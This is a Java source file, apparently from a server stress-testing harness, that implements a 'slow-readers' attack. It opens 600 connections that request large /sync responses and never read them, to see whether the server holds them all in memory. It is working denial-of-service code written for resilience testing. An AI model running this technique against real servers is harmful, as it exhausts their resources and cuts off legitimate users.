package org.bongsu.attack;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import org.bongsu.client.Http;
import org.bongsu.json.Json;
import tools.jackson.databind.node.ObjectNode;

/** Large answers that are asked for and never read; does the server keep them all? */
final class SlowReaders implements Attack {
  private static final int CONNECTIONS = 600;
  private static final int PIECES = 15;
  private static final int PIECE_BYTES = 250_000;

  /** So small that the operating system holds next to nothing of an answer. */
  private static final int RECEIVE_BUFFER_BYTES = 4_096;

  @Override
  public String name() {
    return "slow-readers";
  }

  @Override
  public String what() {
    return "%,d answers of %,d KiB that are not read"
        .formatted(CONNECTIONS, (PIECES * PIECE_BYTES) >> 10);
  }

  @Override
  public Assault prepare(Target target) throws IOException, InterruptedException {
    Target.Account attacker = target.register("reader");
    String filling = "a".repeat(PIECE_BYTES);
    for (int i = 0; i < PIECES; i++) {
      ObjectNode piece = Json.object().put("filling", filling);
      target.expect(Target.accountData(attacker, "org.example." + i, piece));
    }
    return () -> hold(target, attacker);
  }

  private static void hold(Target target, Target.Account attacker)
      throws IOException, InterruptedException {
    byte[] request =
        ("GET %s/sync HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n\r\n"
                .formatted(Http.CLIENT, attacker.token()))
            .getBytes(StandardCharsets.US_ASCII);
    List<Socket> open = new ArrayList<>();
    try {
      for (int i = 0; i < CONNECTIONS; i++) {
        Socket socket = target.connect(RECEIVE_BUFFER_BYTES);
        open.add(socket);
        socket.getOutputStream().write(request);
        Thread.sleep(5);
      }
      new CountDownLatch(1).await(); // until it is interrupted
    } finally {
      for (Socket socket : open) {
        socket.close();
      }
    }
  }
}
